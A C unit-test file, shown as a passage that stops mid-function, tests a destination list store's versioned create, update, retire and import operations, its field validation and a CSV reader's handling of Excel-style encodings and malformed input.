/*
 * Unit tests of the list writes (destinations/store/list.c): add, replace,
 * retire with versions and field-by-field changes, stale versions,
 * validation that names every bad field with its code (store/entry.c),
 * imports that are all or nothing and dry runs; of the CSV reader
 * (daemon/csv.c: BOM, CRLF, ';', quoted line ends, decimal comma, bad
 * UTF-8); and of the CSV writer: an export imports unchanged and writes
 * the same bytes again, and what a spreadsheet would run as a formula is
 * neutralised, in the list and in the CO2 report.
 *
 * Every test opens its own database file under one mkdtemp directory,
 * inside the test function (which runs in Check's forked child).
 */

#include <sys/types.h>

#include <check.h>
#include <limits.h>
#include <math.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include <event2/buffer.h>
#include <jansson.h>
#include <sqlite3.h>

#include "decision/decision.h"
#include "destinations/store/store.h"
#include "destinations/snapshot/snapshot.h"
/* The CSV reader and writer live in the daemon but know nothing of HTTP:
 * the test links daemon/csv.c (and the encoder it uses) as they are. */
#include "daemon/daemon.h"
#include "tests/check_util.h"

/* The shared fixture (tests/check_util.c) under this file's names. */
#define db_path		check_db_path
#define store_fresh	check_store_fresh
#define sql_long	check_sql_long

/* A valid entry from JSON text. */
static struct dst_entry
entry_from(const char *text)
{
	struct dst_entry	 e;
	struct dec_errors	 errs = DEC_ERRORS_INIT;
	json_t			*j;

	j = json_loads(text, 0, NULL);
	ck_assert_ptr_nonnull(j);
	ck_assert_msg(dst_entry_from_json(j, 0, &e, &errs) == 0, "%s: %s",
	    errs.n ? errs.v[0].field : "?", errs.n ? errs.v[0].message : "?");
	dec_errors_clear(&errs);
	json_decref(j);
	return (e);
}

/* An entry as the seeded list has it now. */
static struct dst_entry
entry_now(struct dst_store *st, const char *id)
{
	struct dst_snapshot	*s;
	const struct dst_entry	*e;
	struct dst_entry	 copy;
	char			*cause = NULL;

	s = dst_snapshot_load(st, NULL, &cause);
	ck_assert_msg(s != NULL, "%s", cause);
	e = dst_snapshot_find(s, id);
	ck_assert_msg(e != NULL, "no %s", id);
	copy = *e;
	dst_snapshot_unref(s);
	return (copy);
}

/* Does the snapshot have this id? */
static int
entry_exists(struct dst_store *st, const char *id)
{
	struct dst_snapshot	*s;
	char			*cause = NULL;
	int			 found;

	s = dst_snapshot_load(st, NULL, &cause);
	ck_assert_msg(s != NULL, "%s", cause);
	found = dst_snapshot_find(s, id) != NULL;
	dst_snapshot_unref(s);
	return (found);
}

/* Is there an error of this code on field (of row)? */
static int
has_error(const struct dec_errors *errs, int row, const char *field,
    enum dec_code code)
{
	size_t	i;

	for (i = 0; i < errs->n; i++)
		if (errs->v[i].row == row && errs->v[i].code == code &&
		    strcmp(errs->v[i].field, field) == 0)
			return (1);
	return (0);
}

/* How many errors are on field (of row)? */
static size_t
errors_on(const struct dec_errors *errs, int row, const char *field)
{
	size_t	i, n = 0;

	for (i = 0; i < errs->n; i++)
		if (errs->v[i].row == row &&
		    strcmp(errs->v[i].field, field) == 0)
			n++;
	return (n);
}

/* An error of code on field (of row) is among errs. */
#define ck_assert_error(errs, row, field, code)				\
	ck_assert_msg(has_error((errs), (row), (field), (code)),	\
	    "no %s error on \"%s\" (row %d)", dec_code_name(code),	\
	    (field), (row))

/* Error i of errs is exactly this (the errors of a file come in order). */
#define ck_assert_error_at(errs, i, r, f, c) do {			\
	ck_assert_uint_gt((errs)->n, (i));				\
	ck_assert_int_eq((errs)->v[(i)].row, (r));			\
	ck_assert_str_eq((errs)->v[(i)].field, (f));			\
	ck_assert_str_eq(dec_code_name((errs)->v[(i)].code),		\
	    dec_code_name(c));						\
} while (0)

/* What an evbuffer holds, as a NUL-terminated copy (free it). */
static char *
buffer_text(struct evbuffer *b, size_t *len)
{
	char	*s;

	*len = evbuffer_get_length(b);
	s = malloc(*len + 1);
	ck_assert_ptr_nonnull(s);
	ck_assert_int_eq(evbuffer_copyout(b, s, *len), (ssize_t)*len);
	s[*len] = '\0';
	return (s);
}

#define HASSELT	"{\"id\":\"hasselt\",\"name\":\"Hasselt\",\"country\":\"BE\"," \
	"\"lat\":50.9307,\"lon\":5.3378,\"mode\":\"train\"," \
	"\"strength\":\"recommended\",\"rail_hours\":1.5," \
	"\"rail_source\":\"NMBS\",\"notes\":\"a, \\\"b\\\"\\nc \u00e9\"}"

/* --- writes ------------------------------------------------------------ */

START_TEST(test_create)
{
	struct dst_store	*st;
	struct dst_write_result	 res;
	struct dst_entry	 e, now;
	struct dst_history	 h;
	const struct dst_version *v;
	char			 path[PATH_MAX], *cause = NULL;

	st = store_fresh(path, sizeof path);
	e = entry_from(HASSELT);
	ck_assert_int_eq(dst_destination_create(st, &e, "alice", &res,
	    &cause), 0);
	ck_assert_int_eq(res.status, DST_WRITE_OK);
	ck_assert_int_eq(res.changed, 1);
	ck_assert_int_eq(res.entry.version, 1);
	ck_assert_str_eq(res.entry.updated_by, "alice");
	ck_assert_int_eq((int)strlen(res.entry.updated_at), 20);
	ck_assert_int_eq(res.entry.updated_at[19], 'Z');

	now = entry_now(st, "hasselt");
	ck_assert_str_eq(now.name, "Hasselt");
	ck_assert_str_eq(now.notes, "a, \"b\"\nc \u00e9");
	ck_assert_double_eq(now.rail_hours, 1.5);
	ck_assert_int_eq(now.version, 1);
	ck_assert_str_eq(now.updated_by, "alice");

	ck_assert_msg(dst_destination_history(st, "hasselt", &h, &cause) == 0,
	    "%s", cause);
	ck_assert_uint_eq(h.n, 1);
	v = &h.v[0];
	ck_assert_int_eq(v->doc.version, 1);
	ck_assert_str_eq(v->action, "create");
	ck_assert_str_eq(v->doc.by, "alice");
	ck_assert_uint_eq(json_object_size(v->changes), 0);
	ck_assert_str_eq(json_string_value(json_object_get(v->doc.data,
	    "name")), "Hasselt");
	dst_history_clear(&h);

	/* Taken, retired ones included. */
	cause = NULL;
	ck_assert_int_eq(dst_destination_create(st, &e, "bob", &res, &cause),
	    -1);
	ck_assert_int_eq(res.status, DST_WRITE_EXISTS);
	ck_assert_ptr_nonnull(cause);
	free(cause);
	cause = NULL;
	ck_assert_int_eq(sql_long(path, "SELECT count(*) FROM "
	    "destination_versions WHERE id = 'hasselt'"), 1);

	/* No key name yet: "anonymous". */
	e = entry_from("{\"id\":\"genk\",\"name\":\"Genk\",\"country\":\"BE\","
	    "\"lat\":50.96,\"lon\":5.5,\"mode\":\"train\","
	    "\"strength\":\"free\"}");
	ck_assert_int_eq(dst_destination_create(st, &e, "", &res, &cause), 0);
	ck_assert_str_eq(res.entry.updated_by, "anonymous");
	ck_assert_int_eq(sql_long(path, "SELECT count(*) FROM "
	    "destination_versions WHERE id = 'genk' AND changed_by = "
	    "'anonymous'"), 1);

	/* No such id: no versions. */
	ck_assert_int_eq(dst_destination_history(st, "atlantis", &h, &cause),
	    0);
	ck_assert_uint_eq(h.n, 0);
	dst_history_clear(&h);
	dst_store_close(st);
}
END_TEST

/* The from and to of a change. */
#define FROM(ch, f)	json_object_get(json_object_get((ch), (f)), "from")
#define TO(ch, f)	json_object_get(json_object_get((ch), (f)), "to")

START_TEST(test_update_versions)
{
	struct dst_store	*st;
	struct dst_write_result	 res;
	struct dst_entry	 e, now;
	struct dst_history	 h;
	const struct dst_version *v;
	json_t			*ch;
	char			 path[PATH_MAX], *cause = NULL;

	st = store_fresh(path, sizeof path);
	e = entry_now(st, "cologne");
	ck_assert_int_eq(e.version, 1);
	e.rail_hours = 2.5;
	snprintf(e.notes, sizeof e.notes, "ICE 3; \"Sprinter\"");
	ck_assert_int_eq(dst_destination_update(st, &e, 1, "alice", &res,
	    &cause), 0);
	ck_assert_int_eq(res.changed, 1);
	ck_assert_int_eq(res.entry.version, 2);
	now = entry_now(st, "cologne");
	ck_assert_int_eq(now.version, 2);
	ck_assert_double_eq(now.rail_hours, 2.5);
	ck_assert_str_eq(now.updated_by, "alice");
	ck_assert_str_eq(now.name, "Köln");

	ck_assert_msg(dst_destination_history(st, "cologne", &h, &cause) == 0,
	    "%s", cause);
	ck_assert_uint_eq(h.n, 2);
	v = &h.v[1];
	ck_assert_int_eq(v->doc.version, 2);
	ck_assert_str_eq(v->action, "update");
	ck_assert_str_eq(v->doc.by, "alice");
	ch = v->changes;
	ck_assert_uint_eq(json_object_size(ch), 2);
	ck_assert_double_eq(json_real_value(FROM(ch, "rail_hours")), 2.3);
	ck_assert_double_eq(json_real_value(TO(ch, "rail_hours")), 2.5);
	ck_assert_str_eq(json_string_value(FROM(ch, "notes")), "");
	ck_assert_str_eq(json_string_value(TO(ch, "notes")),
	    "ICE 3; \"Sprinter\"");
	ck_assert_double_eq(json_real_value(json_object_get(v->doc.data,
	    "rail_hours")), 2.5);
	dst_history_clear(&h);

	/* The same again: nothing written, same version. */
	ck_assert_int_eq(dst_destination_update(st, &e, 2, "bob", &res,
	    &cause), 0);
	ck_assert_int_eq(res.changed, 0);
	ck_assert_int_eq(res.entry.version, 2);
	ck_assert_str_eq(res.entry.updated_by, "alice");
	ck_assert_int_eq(sql_long(path, "SELECT count(*) FROM "
	    "destination_versions WHERE id = 'cologne'"), 2);

	/* Expected 0: whatever the version is. */
	e.rail_hours = -1;
	e.rail_source[0] = '\0';
	ck_assert_int_eq(dst_destination_update(st, &e, 0, "carol", &res,
	    &cause), 0);
	ck_assert_int_eq(res.entry.version, 3);
	ck_assert_int_eq(sql_long(path, "SELECT rail_hours IS NULL FROM "
	    "destinations WHERE id = 'cologne'"), 1);
	dst_store_close(st);
}
END_TEST

START_TEST(test_stale)
{
	struct dst_store	*st;
	struct dst_write_result	 res;
	struct dst_entry	 e, mine;
	char			 path[PATH_MAX], *cause = NULL;

	st = store_fresh(path, sizeof path);
	e = entry_now(st, "paris");
	mine = e;
	e.night_train = 1;
	ck_assert_int_eq(dst_destination_update(st, &e, 1, "alice", &res,
	    &cause), 0);
	ck_assert_int_eq(res.entry.version, 2);

	/* Bob edited version 1 too: refused, told who and when. */
	mine.rail_hours = 9;
	ck_assert_int_eq(dst_destination_update(st, &mine, 1, "bob", &res,
	    &cause), -1);
	ck_assert_int_eq(res.status, DST_WRITE_STALE);
	ck_assert_int_eq(res.entry.version, 2);
	ck_assert_str_eq(res.entry.updated_by, "alice");
	ck_assert_str_eq(res.entry.updated_at, entry_now(st,
	    "paris").updated_at);
	ck_assert_ptr_nonnull(strstr(cause, "alice"));
	ck_assert_ptr_nonnull(strstr(cause, "version 2"));
	free(cause);
	cause = NULL;
	ck_assert_double_ne(entry_now(st, "paris").rail_hours, 9);
	ck_assert_int_eq(entry_now(st, "paris").version, 2);

	/* Retire checks the version too. */
	ck_assert_int_eq(dst_destination_retire(st, "paris", 1, 20000, "bob",
	    &res, &cause), -1);
	ck_assert_int_eq(res.status, DST_WRITE_STALE);
	free(cause);
	cause = NULL;

	/* Unknown ids. */
	snprintf(mine.id, sizeof mine.id, "atlantis");
	ck_assert_int_eq(dst_destination_update(st, &mine, 0, "bob", &res,
	    &cause), -1);
	ck_assert_int_eq(res.status, DST_WRITE_NOT_FOUND);
	free(cause);
	cause = NULL;
	ck_assert_int_eq(dst_destination_retire(st, "atlantis", 0, 20000,
	    "bob", &res, &cause), -1);
	ck_assert_int_eq(res.status, DST_WRITE_NOT_FOUND);
	free(cause);
	ck_assert_int_eq(sql_long(path, "SELECT count(*) FROM "
	    "destination_versions WHERE id = 'paris'"), 2);
	dst_store_close(st);
}
END_TEST

START_TEST(test_retire)
{
	struct dst_store	*st;
	struct dst_write_result	 res;
	struct dst_entry	 now;
	struct dst_history	 h;
	const struct dst_version *v;
	long			 day;
	char			 path[PATH_MAX], date[16], *cause = NULL;

	st = store_fresh(path, sizeof path);
	ck_assert_int_eq(dec_date_parse("2026-11-27", &day), 0);
	ck_assert_int_eq(dst_destination_retire(st, "cologne", 1, day, "ops",
	    &res, &cause), 0);
	ck_assert_int_eq(res.entry.version, 2);
	now = entry_now(st, "cologne");
	ck_assert_int_eq(now.retired, day);
	ck_assert_int_eq(dst_entry_active(&now, day - 1), 1);
	ck_assert_int_eq(dst_entry_active(&now, day), 0);
	ck_assert_int_eq(sql_long(path, "SELECT retired = '2026-11-27' FROM "
	    "destinations WHERE id = 'cologne'"), 1);

	ck_assert_msg(dst_destination_history(st, "cologne", &h, &cause) == 0,
	    "%s", cause);
	ck_assert_uint_eq(h.n, 2);
	v = &h.v[1];
	ck_assert_str_eq(v->action, "retire");
	ck_assert(json_is_null(FROM(v->changes, "retired")));
	ck_assert_str_eq(json_string_value(TO(v->changes, "retired")),
	    "2026-11-27");
	dst_history_clear(&h);

	ck_assert_int_eq(dst_destination_retire(st, "cologne", 0, day + 3,
	    "ops", &res, &cause), -1);
	ck_assert_int_eq(res.status, DST_WRITE_RETIRED);
	free(cause);
	cause = NULL;

	/* Not active yet: retiring would end before it starts. */
	now = entry_from("{\"id\":\"later\",\"name\":\"Later\",\"country\":"
	    "\"FR\",\"lat\":48,\"lon\":2,\"mode\":\"train\",\"strength\":"
	    "\"free\",\"active_from\":\"2027-01-01\"}");
	ck_assert_int_eq(dst_destination_create(st, &now, "ops", &res,
	    &cause), 0);
	ck_assert_int_eq(dst_destination_retire(st, "later", 0, day, "ops",
	    &res, &cause), -1);
	ck_assert_int_eq(res.status, DST_WRITE_NOT_ACTIVE);
	free(cause);
	dec_date_format(day, date, sizeof date);
	ck_assert_str_eq(date, "2026-11-27");
	dst_store_close(st);
}
END_TEST

START_TEST(test_validation)
{
	struct dst_entry	 e;
	struct dec_errors	 errs = DEC_ERRORS_INIT;
	json_t			*j;
	static const struct {
		const char	*field;
		enum dec_code	 code;
	} bad[] = {
		{ "id", DEC_E_FORMAT }, { "name", DEC_E_EMPTY },
		{ "aliases", DEC_E_TOO_LONG }, { "country", DEC_E_FORMAT },
		{ "lat", DEC_E_RANGE }, { "lon", DEC_E_RANGE },
		{ "mode", DEC_E_CHOICE }, { "strength", DEC_E_CHOICE },
		{ "rail_hours", DEC_E_RANGE },
		{ "rail_source_date", DEC_E_DATE },
		{ "active_from", DEC_E_DATE }, { NULL, DEC_E_INVALID }
	};
	size_t			 i, nfields = 0;
	int			 negative = 0;

	/* Every bad field is named, not just the first. */
	j = json_loads("{\"id\":\"Bad Id\",\"name\":\"  \",\"aliases\":"
	    "[\"a\",\"b\",\"c\",\"d\",\"e\",\"f\",\"g\",\"h\",\"i\"],"
	    "\"country\":\"XX\",\"lat\":91,\"lon\":-181,\"mode\":\"bike\","
	    "\"strength\":\"must\",\"rail_hours\":-2,\"rail_source_date\":"
	    "\"2026-02-30\",\"active_from\":\"27/11/2026\"}", 0, NULL);
	ck_assert_ptr_nonnull(j);
	ck_assert_int_eq(dst_entry_from_json(j, 0, &e, &errs), -1);
	for (i = 0; bad[i].field != NULL; i++) {
		ck_assert_error(&errs, 0, bad[i].field, bad[i].code);
		nfields++;
	}
	ck_assert_uint_eq(nfields, 11);
	/* One error a field; a negative rail_hours is told what null means. */
	for (i = 0; i < errs.n; i++) {
		ck_assert_uint_eq(errors_on(&errs, 0, errs.v[i].field), 1);
		if (strcmp(errs.v[i].field, "rail_hours") == 0 &&
		    strstr(errs.v[i].message, "negative") != NULL)
			negative = 1;
	}
	ck_assert_int_eq(negative, 1);
	ck_assert_uint_eq(errs.n, 11);
	ck_assert_int_eq(dec_errors_structural(&errs), 0);
	dec_errors_clear(&errs);
	json_decref(j);

	/* Unknown members and wrong types are structural (400). */
	j = json_loads("{\"id\":\"x\",\"name\":\"X\",\"country\":\"DE\","
	    "\"lat\":\"50\",\"lon\":6,\"mode\":\"train\",\"strength\":\"free\","
	    "\"night_train\":\"yes\",\"colour\":\"red\"}", 0, NULL);
	ck_assert_int_eq(dst_entry_from_json(j, 0, &e, &errs), -1);
	ck_assert_int_eq(dec_errors_structural(&errs), 1);
	ck_assert_error(&errs, 0, "lat", DEC_E_TYPE);
	ck_assert_error(&errs, 0, "night_train", DEC_E_TYPE);
	ck_assert_error(&errs, 0, "colour", DEC_E_UNKNOWN_FIELD);
	ck_assert_uint_eq(errs.n, 3);
	dec_errors_clear(&errs);
	json_decref(j);

	/* Missing required ones, rail_source with rail_hours, dates in order,
	 * '|' in an alias, the reserved id. */
	j = json_loads("{\"id\":\"import\",\"aliases\":[\"a|b\"],"
	    "\"rail_hours\":3,\"active_from\":\"2026-05-01\","
	    "\"retired\":\"2026-05-01\"}", 0, NULL);
	ck_assert_int_eq(dst_entry_from_json(j, 0, &e, &errs), -1);
	ck_assert_error(&errs, 0, "id", DEC_E_INVALID);
	ck_assert_error(&errs, 0, "name", DEC_E_REQUIRED);
	ck_assert_error(&errs, 0, "country", DEC_E_REQUIRED);
	ck_assert_error(&errs, 0, "lat", DEC_E_REQUIRED);
	ck_assert_error(&errs, 0, "lon", DEC_E_REQUIRED);
	ck_assert_error(&errs, 0, "mode", DEC_E_REQUIRED);
	ck_assert_error(&errs, 0, "strength", DEC_E_REQUIRED);
	ck_assert_error(&errs, 0, "rail_source", DEC_E_REQUIRED);
	ck_assert_error(&errs, 0, "retired", DEC_E_ORDER);
	ck_assert_error(&errs, 0, "aliases", DEC_E_FORMAT);
	ck_assert_uint_eq(errs.n, 10);
	ck_assert_int_eq(dec_errors_structural(&errs), 0);
	dec_errors_clear(&errs);
	json_decref(j);

	/* Read-only members are accepted and ignored. */
	j = json_loads("{\"id\":\"x\",\"name\":\"X\",\"country\":\"DE\","
	    "\"lat\":50,\"lon\":6,\"mode\":\"train\",\"strength\":\"free\","
	    "\"rail_hours\":null,\"version\":7,\"updated_at\":\"then\","
	    "\"updated_by\":\"someone\",\"distance_km\":12.5,"
	    "\"in_rail_zone\":true,\"aliases\":[\"Ix\"],\"retired\":null}", 0,
	    NULL);
	ck_assert_int_eq(dst_entry_from_json(j, 0, &e, &errs), 0);
	ck_assert_uint_eq(errs.n, 0);
	ck_assert_str_eq(e.id, "x");
	ck_assert_double_eq(e.rail_hours, -1);
	ck_assert_int_eq(e.naliases, 1);
	ck_assert_str_eq(e.aliases[0], "Ix");
	ck_assert_str_eq(e.updated_by, "");
	ck_assert_int_eq(e.version, 0);
	ck_assert_int_eq(e.retired, LONG_MAX);
	json_decref(j);

	/* Not an object. */
	j = json_loads("[1]", 0, NULL);
	ck_assert_int_eq(dst_entry_from_json(j, 0, &e, &errs), -1);
	ck_assert_int_eq(dec_errors_structural(&errs), 1);
	ck_assert_uint_eq(errs.n, 1);
	ck_assert_error(&errs, 0, "body", DEC_E_TYPE);
	dec_errors_clear(&errs);
	json_decref(j);
}
END_TEST

START_TEST(test_import)
{
	struct dst_store		*st;
	struct dst_entry		 e[3];
	struct dst_import_report	 rep;
	char				 path[PATH_MAX], *cause = NULL;
	long				 versions;

	st = store_fresh(path, sizeof path);
	e[0] = entry_from(HASSELT);			/* new */
	e[1] = entry_now(st, "cologne");		/* changed */
	e[1].night_train = 1;
	snprintf(e[1].night_train_note, sizeof e[1].night_train_note,
	    "ÖBB Nightjet");
	e[2] = entry_now(st, "paris");			/* as it is */
	versions = sql_long(path, "SELECT count(*) FROM destination_versions");

	/* Dry run: the exact report, nothing stored. */
	ck_assert_msg(dst_destination_import(st, e, 3, 1, "ops", &rep,
	    &cause) == 0, "%s", cause);
	ck_assert_int_eq(rep.dry_run, 1);
	ck_assert_uint_eq(rep.ncreated, 1);
	ck_assert_str_eq(rep.created[0], "hasselt");
	ck_assert_uint_eq(rep.nupdated, 1);
	ck_assert_str_eq(rep.updated[0], "cologne");
	ck_assert_uint_eq(rep.unchanged, 1);
	ck_assert_uint_eq(rep.rows, 3);
	dst_import_report_clear(&rep);
	ck_assert_int_eq(entry_exists(st, "hasselt"), 0);
	ck_assert_int_eq(entry_now(st, "cologne").night_train, 0);
	ck_assert_int_eq(sql_long(path, "SELECT count(*) FROM "
	    "destination_versions"), versions);

	/* For real. */
	ck_assert_msg(dst_destination_import(st, e, 3, 0, "ops", &rep,
	    &cause) == 0, "%s", cause);
	ck_assert_int_eq(rep.dry_run, 0);
	dst_import_report_clear(&rep);
	ck_assert_int_eq(entry_exists(st, "hasselt"), 1);
	ck_assert_int_eq(entry_now(st, "cologne").night_train, 1);
	ck_assert_int_eq(entry_now(st, "cologne").version, 2);
	ck_assert_int_eq(entry_now(st, "paris").version, 1);
	ck_assert_int_eq(sql_long(path, "SELECT count(*) FROM "
	    "destination_versions"), versions + 2);
	ck_assert_int_eq(sql_long(path, "SELECT count(*) FROM "
	    "destination_versions WHERE id = 'cologne' AND version = 2 AND "
	    "changed_by = 'ops' AND json_extract(changes, '$.action') = "
	    "'import' AND json_extract(changes, '$.fields.night_train.to') = 1 "
	    "AND json_extract(changes, '$.fields.night_train_note.to') = "
	    "'ÖBB Nightjet'"), 1);

	/* Again: all unchanged. */
	ck_assert_msg(dst_destination_import(st, e, 3, 0, "ops", &rep,
	    &cause) == 0, "%s", cause);
	ck_assert_uint_eq(rep.unchanged, 3);
	ck_assert_uint_eq(rep.ncreated, 0);
	ck_assert_uint_eq(rep.nupdated, 0);
	dst_import_report_clear(&rep);
	ck_assert_int_eq(sql_long(path, "SELECT count(*) FROM "
	    "destination_versions"), versions + 2);
	dst_store_close(st);
}
END_TEST

START_TEST(test_import_all_or_nothing)
{
	struct dst_store		*st;
	struct dst_entry		 e[3];
	struct dst_import_report	 rep;
	char				 path[PATH_MAX], *cause = NULL;
	long				 versions;

	st = store_fresh(path, sizeof path);
	e[0] = entry_from(HASSELT);
	e[1] = entry_now(st, "cologne");
	e[1].rail_hours = 2.4;
	/* A row the database refuses, after two good ones. */
	e[2] = entry_now(st, "paris");
	e[2].lat = 123;
	versions = sql_long(path, "SELECT count(*) FROM destination_versions");
	ck_assert_int_eq(dst_destination_import(st, e, 3, 0, "ops", &rep,
	    &cause), -1);
	ck_assert_ptr_nonnull(cause);
	ck_assert_uint_eq(rep.ncreated, 0);		/* cleared */
	ck_assert_ptr_null(rep.created);
	free(cause);
	cause = NULL;
	ck_assert_int_eq(entry_exists(st, "hasselt"), 0);
	ck_assert_double_eq(entry_now(st, "cologne").rail_hours, 2.3);
	ck_assert_int_eq(sql_long(path, "SELECT count(*) FROM "
	    "destination_versions"), versions);

	/* The same id twice: refused before anything. */
	e[2] = e[0];
	ck_assert_int_eq(dst_destination_import(st, e, 3, 0, "ops", &rep,
	    &cause), -1);
	ck_assert_ptr_nonnull(strstr(cause, "hasselt"));
	free(cause);
	cause = NULL;
	ck_assert_int_eq(entry_exists(st, "hasselt"), 0);

	/* The store is usable afterwards (no transaction left open). */
	ck_assert_msg(dst_destination_import(st, e, 2, 0, "ops", &rep,
	    &cause) == 0, "%s", cause);
	dst_import_report_clear(&rep);
	ck_assert_int_eq(entry_exists(st, "hasselt"), 1);
	dst_store_close(st);
}
END_TEST

/* --- CSV in ------------------------------------------------------------ */

/* A string literal and its length (it may hold NUL bytes). */
#define LIT(s)	(s), (sizeof(s) - 1)

/* The text of field f of record r. */
#define FIELD(c, r, f)	((c).records[(r)].fields[(f)])

START_TEST(test_csv_excel)
{
	static const char text[] = "\xef\xbb\xbf" "id;name;notes\r\n"
	    "a;\"K\xc3\xb6ln, \"\"Dom\"\"\";\"line 1\r\nline 2\"\r\n"
	    "b;Li\xc3\xa8ge;\r\n";
	struct csv		 c;
	struct dec_errors	 errs = DEC_ERRORS_INIT;

	ck_assert_int_eq(csv_read(text, sizeof text - 1, &c, &errs), 0);
	ck_assert_int_eq(c.sep, ';');
	ck_assert_uint_eq(c.nrecords, 3);
	ck_assert_str_eq(FIELD(c, 0, 0), "id");		/* no BOM */
	ck_assert_str_eq(FIELD(c, 1, 1), "K\xc3\xb6ln, \"Dom\"");
	ck_assert_str_eq(FIELD(c, 1, 2), "line 1\r\nline 2");
	ck_assert_int_eq(c.records[2].row, 3);
	ck_assert_uint_eq(c.records[2].nfields, 3);
	ck_assert_str_eq(FIELD(c, 2, 2), "");
	csv_free(&c);
	ck_assert_uint_eq(errs.n, 0);
}
END_TEST

START_TEST(test_csv_plain)
{
	/* LF, ',', a quoted newline, blank lines counted as rows, no final
	 * newline, a trailing empty field. */
	static const char text[] = "id,name\n\"x\",\"a\nb\"\n\ny,\n\"z\",\"\"";
	struct csv		 c;
	struct dec_errors	 errs = DEC_ERRORS_INIT;

	ck_assert_int_eq(csv_read(text, sizeof text - 1, &c, &errs), 0);
	ck_assert_int_eq(c.sep, ',');
	ck_assert_uint_eq(c.nrecords, 4);
	ck_assert_str_eq(FIELD(c, 1, 1), "a\nb");
	ck_assert_int_eq(c.records[1].row, 2);
	ck_assert_int_eq(c.records[2].row, 4);
	ck_assert_str_eq(FIELD(c, 2, 0), "y");
	ck_assert_str_eq(FIELD(c, 2, 1), "");
	ck_assert_str_eq(FIELD(c, 3, 0), "z");
	ck_assert_str_eq(FIELD(c, 3, 1), "");
	csv_free(&c);

	/* Excel's sep= line; CR-only line ends. */
	ck_assert_int_eq(csv_read(LIT("sep=;\r\na,b;c\rd;e"), &c, &errs), 0);
	ck_assert_int_eq(c.sep, ';');
	ck_assert_uint_eq(c.nrecords, 2);
	ck_assert_int_eq(c.records[0].row, 1);
	ck_assert_str_eq(FIELD(c, 0, 0), "a,b");
	ck_assert_str_eq(FIELD(c, 1, 1), "e");
	csv_free(&c);
	ck_assert_uint_eq(errs.n, 0);
}
END_TEST

START_TEST(test_csv_errors)
{
	struct csv		 c;
	struct dec_errors	 errs = DEC_ERRORS_INIT;

	/* Latin-1 (Excel's plain "CSV"): the row and the column named. */
	ck_assert_int_eq(csv_read(LIT("id,name\nok,Ok\nx,Li\xe8ge\n"), &c,
	    &errs), -1);
	ck_assert_uint_eq(errs.n, 1);
	ck_assert_error_at(&errs, 0, 3, "name", DEC_E_ENCODING);
	ck_assert_ptr_nonnull(strstr(errs.v[0].message, "UTF-8"));
	dec_errors_clear(&errs);

	/* Overlong and surrogate forms are not UTF-8 either. */
	ck_assert_int_eq(csv_read(LIT("a\n\xc0\xaf\n\xed\xa0\x80\n"), &c,
	    &errs), -1);
	ck_assert_uint_eq(errs.n, 2);
	ck_assert_error_at(&errs, 0, 2, "a", DEC_E_ENCODING);
	ck_assert_error_at(&errs, 1, 3, "a", DEC_E_ENCODING);
	dec_errors_clear(&errs);

	/* An unclosed quote names the row it started on. */
	ck_assert_int_eq(csv_read(LIT("a,b\n1,\"2\n3,4\n"), &c, &errs), -1);
	ck_assert_uint_eq(errs.n, 1);
	ck_assert_error_at(&errs, 0, 2, "", DEC_E_MALFORMED);
	dec_errors_clear(&errs);

	/* Text after a closing quote; UTF-16; a NUL byte. */
	ck_assert_int_eq(csv_read(LIT("a,b\n\"1\"x,2\n"), &c, &errs), -1);
	ck_assert_int_eq(csv_read(LIT("\xff\xfe" "a\0"), &c, &errs), -1);
	ck_assert_int_eq(csv_read(LIT("a,b\n1,2\0\n"), &c, &errs), -1);
	ck_assert_uint_eq(errs.n, 3);
	ck_assert_error_at(&errs, 0, 2, "", DEC_E_MALFORMED);
	ck_assert_error_at(&errs, 1, 1, "", DEC_E_ENCODING);
	ck_assert_ptr_nonnull(strstr(errs.v[1].message, "UTF-16"));
	ck_assert_error_at(&errs, 2, 2, "b", DEC_E_ENCODING);
	ck_assert_ptr_nonnull(strstr(errs.v[2].message, "NUL"));
	dec_errors_clear(&errs);
}
END_TEST

#define ENTRY_HEADER "id;name;country;lat;lon;mode;strength;rail_hours;" \
	"rail_source;night_train;aliases;distance_km;version;" \
	"rail_source_date\r\n"

START_TEST(test_csv_entries)
{
	static const char text[] = "\xef\xbb\xbf" ENTRY_HEADER
	    "hasselt;Hasselt;BE;50,9307;5,3378;train;recommended;1,5;NMBS;"
	    "WAAR;Hasselt centrum | Hasselt-Centrum;99,1;4;27/11/2026\r\n"
	    ";;;;;;;;;;;;;\r\n"
	    "genk; Genk ;BE ;50.96;5.5;train;free;;;Faux;;;;2026-11-03\r\n";
	struct dst_entry	 e;
	struct dec_errors	 errs = DEC_ERRORS_INIT;
	json_t			*list, *o;
	int			*rows;

	ck_assert_int_eq(csv_entries(text, sizeof text - 1, &list, &rows,
	    &errs), 0);
	ck_assert_uint_eq(errs.n, 0);
	ck_assert_uint_eq(json_array_size(list), 2);
	ck_assert_int_eq(rows[0], 2);
	ck_assert_int_eq(rows[1], 4);			/* blank row 3 */

	o = json_array_get(list, 0);
	ck_assert_double_eq(json_real_value(json_object_get(o, "lat")),
	    50.9307);
	ck_assert_double_eq(json_real_value(json_object_get(o, "rail_hours")),
	    1.5);
	ck_assert(json_is_true(json_object_get(o, "night_train")));
	ck_assert_uint_eq(json_array_size(json_object_get(o, "aliases")), 2);
	ck_assert_str_eq(json_string_value(json_array_get(json_object_get(o,
	    "aliases"), 1)), "Hasselt-Centrum");
	ck_assert_ptr_null(json_object_get(o, "distance_km"));	/* ignored */
	ck_assert_ptr_null(json_object_get(o, "version"));
	ck_assert_str_eq(json_string_value(json_object_get(o,
	    "rail_source_date")), "2026-11-27");		/* day first */
	ck_assert_int_eq(dst_entry_from_json(o, 0, &e, &errs), 0);
	ck_assert_double_eq(e.lon, 5.3378);

	o = json_array_get(list, 1);
	ck_assert_str_eq(json_string_value(json_object_get(o, "name")),
	    " Genk ");					/* names as written */
	ck_assert_str_eq(json_string_value(json_object_get(o, "country")),
	    "BE");
	ck_assert(json_is_null(json_object_get(o, "rail_hours")));
	ck_assert(json_is_false(json_object_get(o, "night_train")));
	ck_assert_str_eq(json_string_value(json_object_get(o,
	    "rail_source_date")), "2026-11-03");
	ck_assert_int_eq(dst_entry_from_json(o, 0, &e, &errs), 0);
	ck_assert_double_eq(e.rail_hours, -1);
	ck_assert_uint_eq(errs.n, 0);
	json_decref(list);
	free(rows);
}
END_TEST

START_TEST(test_csv_entries_errors)
{
	struct dst_entry	 entry;
	struct dec_errors	 errs = DEC_ERRORS_INIT;
	struct dec_errors	 verrs = DEC_ERRORS_INIT;
	json_t			*list, *e;
	int			*rows;

